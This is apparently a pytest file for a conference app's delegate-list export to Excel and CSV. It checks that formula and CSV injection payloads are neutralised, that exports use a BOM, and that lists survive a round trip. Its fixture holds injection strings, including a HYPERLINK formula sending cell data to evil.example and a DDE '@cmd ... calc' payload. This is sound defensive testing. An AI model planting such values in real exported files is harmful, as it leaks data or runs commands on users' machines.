"""Export the delegate list to .xlsx and .csv: never formulas, Excel-friendly CSV, round trip."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from confman.core.enums import Gender
from confman.core.errors import DomainError
from confman.core.registration.exporting import export_delegates, neutralise_csv
from confman.core.registration.importing import parse_file
from confman.core.registration.importing.apply import apply_plan
from confman.core.registration.importing.plan import build_plan
from confman.core.registration.rows import DelegateFilters, DelegateInput
from confman.core.registration.service import create_delegate, get_delegate, search_delegate_ids

HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "position": "+SUM(1,2)",
    "organization": "@cmd|' /C calc'!A0",
    "notes": "-2+3",
    "delegation": "\tĐoàn ẩn",
}


def _add(db, event_id, **kw) -> int:
    return create_delegate(db, event_id, DelegateInput(**kw)).detail.id


@pytest.fixture
def hostile_event(db, make_event):
    event = make_event()
    _add(db, event.id, **HOSTILE, phone="+6591234567")
    _add(db, event.id, full_name="Nguyễn Thị Thủy", organization="Bộ Ngoại giao", phone="+84 912 345 678",
         email="Thuy@Mofa.gov.vn", category_code="VIP")
    return event


def test_xlsx_cells_are_strings_never_formulas(db, hostile_event, tmp_path):
    path = tmp_path / "ds.xlsx"
    result = export_delegates(db, hostile_event.id, path)
    assert result.rows == 2
    wb = load_workbook(path)
    ws = wb.active
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold and ws.column_dimensions["C"].width >= 20
    headers = [c.value for c in ws[1]]
    assert headers[:3] == ["STT", "Danh xưng", "Họ và tên"]
    values = {}
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value is not None:
                assert cell.data_type == "s"
                values[headers[cell.column - 1]] = [*values.get(headers[cell.column - 1], []), cell.value]
    assert HOSTILE["full_name"] in values["Họ và tên"]
    assert HOSTILE["position"] in values["Chức vụ"] and HOSTILE["organization"] in values["Đơn vị"]
    assert "+6591234567" in values["Điện thoại"] and "0912345678" in values["Điện thoại"]
    with zipfile.ZipFile(path) as zf:  # nothing in the sheet XML that Excel would evaluate
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert load_workbook(path, data_only=False).active.cell(row=2, column=3).data_type == "s"


def test_csv_has_a_bom_and_neutralises_free_text_only(db, hostile_event, tmp_path):
    path = tmp_path / "ds.csv"
    export_delegates(db, hostile_event.id, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    hostile = next(r for r in rows if "HYPERLINK" in r["Họ và tên"])
    assert hostile["Họ và tên"] == "'" + HOSTILE["full_name"]
    assert hostile["Chức vụ"] == "'+SUM(1,2)"
    assert hostile["Đơn vị"] == "'" + HOSTILE["organization"]
    assert hostile["Ghi chú"] == "'-2+3"
    assert hostile["Đoàn"] == "Đoàn ẩn"  # stored text is cleaned: the tab never reached the database
    assert [neutralise_csv(v) for v in ("\tx", "\rx", "=1", "+1", "-1", "@a", "a=1", "")] == [
        "'\tx", "'\rx", "'=1", "'+1", "'-1", "'@a", "a=1", ""]
    assert hostile["Điện thoại"] == "+6591234567"  # phones are not free text
    thuy = next(r for r in rows if r["Họ và tên"] == "Nguyễn Thị Thủy")
    assert (thuy["Đơn vị"], thuy["Điện thoại"], thuy["Email"], thuy["Loại đại biểu"]) == (
        "Bộ Ngoại giao", "0912345678", "thuy@mofa.gov.vn", "Đại biểu VIP")


def test_export_follows_the_current_search_and_category(db, hostile_event, tmp_path):
    path = tmp_path / "vip.csv"
    vip = search_delegate_ids(db, hostile_event.id, "thuy").ids
    assert len(vip) == 1
    result = export_delegates(db, hostile_event.id, path, query="thuy")
    assert result.rows == 1
    result = export_delegates(db, hostile_event.id, tmp_path / "none.xlsx", query="thuy",
                              filters=DelegateFilters(category_ids=frozenset({999})))
    assert result.rows == 0


def test_unsupported_extension_is_a_clear_error(db, hostile_event, tmp_path):
    with pytest.raises(DomainError) as err:
        export_delegates(db, hostile_event.id, tmp_path / "ds.pdf")
    assert err.value.code == "import_ui.export_format"


PEOPLE = [
    dict(full_name="Nguyễn Văn Tiến", honorific="Ông", position="Thứ trưởng", organization="Bộ Thông tin và Truyền thông",
         phone="0912345678", email="tien@mic.gov.vn", gender=Gender.MALE, category_code="VIP"),
    dict(full_name="Trần Thị Thủy", honorific="Bà", position="Vụ trưởng", organization="Bộ Thông tin và Truyền thông",
         phone="0987654321", gender=Gender.FEMALE, notes="Phát biểu khai mạc\nchiều 10/12", category_code="DG"),
    dict(full_name="Đặng Hùng", organization="Sở TT&TT Đà Nẵng", email="hung@danang.gov.vn", category_code="DB"),
    dict(full_name="Đặng Hưng", organization="Sở TT&TT Đà Nẵng", phone="02363822222", category_code="DB"),
    dict(full_name="Kim Young-soo", organization="MSIT Korea", phone="+821012345678", nationality="Hàn Quốc",
         delegation="Đoàn Hàn Quốc", foreign_name=True, category_code="KM"),
    dict(full_name="Lê Minh Anh", position="Phóng viên", organization="Báo Nhân Dân", category_code="BC"),
]
COMPARED = ("honorific", "full_name", "position", "organization", "phone", "email", "gender", "notes", "delegation",
            "nationality", "category_code", "family_name")


def _details(db, event_id) -> list[tuple]:
    ids = search_delegate_ids(db, event_id).ids
    out = []
    for delegate_id in ids:
        d = get_delegate(db, delegate_id)
        values = {name: getattr(d, name, None) for name in COMPARED}
        values["family_name"] = None
        out.append(tuple(values[name] for name in COMPARED))
    return sorted(out)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("lang", ["vi", "en"])
def test_round_trip_reproduces_the_delegates(db, make_event, tmp_path, suffix, lang):
    source = make_event()
    for person in PEOPLE:
        _add(db, source.id, **person)
    path: Path = tmp_path / f"ds{suffix}"
    export_delegates(db, source.id, path, lang=lang)
    target = make_event()
    sheets = parse_file(path)
    plan = build_plan(db, target.id, sheets)
    assert plan.rejected == [] and plan.merged == 0
    result = apply_plan(db, plan, event_id=target.id)
    assert result.imported == len(PEOPLE)
    assert _details(db, target.id) == _details(db, source.id)
